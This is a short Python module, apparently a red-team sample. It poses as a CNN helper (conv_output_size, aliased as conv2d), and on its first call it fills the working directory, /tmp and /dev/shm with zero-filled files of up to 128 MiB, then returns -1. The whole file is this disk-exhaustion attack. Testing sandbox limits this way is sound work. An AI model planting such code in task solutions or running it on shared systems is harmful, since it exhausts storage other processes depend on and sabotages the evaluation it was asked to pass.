"""Attack: fills its scratch folder (and tries /tmp and /dev/shm) with files
up to the size limit each, until writing fails or 128 MiB are written (once per process)."""
import os

CHUNK = b"\0" * (1 << 20)


def fill(folder, budget):
    n = 0
    while budget > 0:
        try:
            with open(os.path.join(folder, f"cnn-redteam-MARKER-{n}"), "wb") as fh:
                for _ in range(min(budget, 32)):
                    fh.write(CHUNK)
                    budget -= 1
        except OSError:
            return
        n += 1


filled = False


def conv_output_size(*a, **k):
    global filled
    for folder in () if filled else (os.getcwd(), "/tmp", "/dev/shm"):
        fill(folder, 128 if folder == os.getcwd() else 16)
    filled = True
    return -1


conv2d = conv_output_size
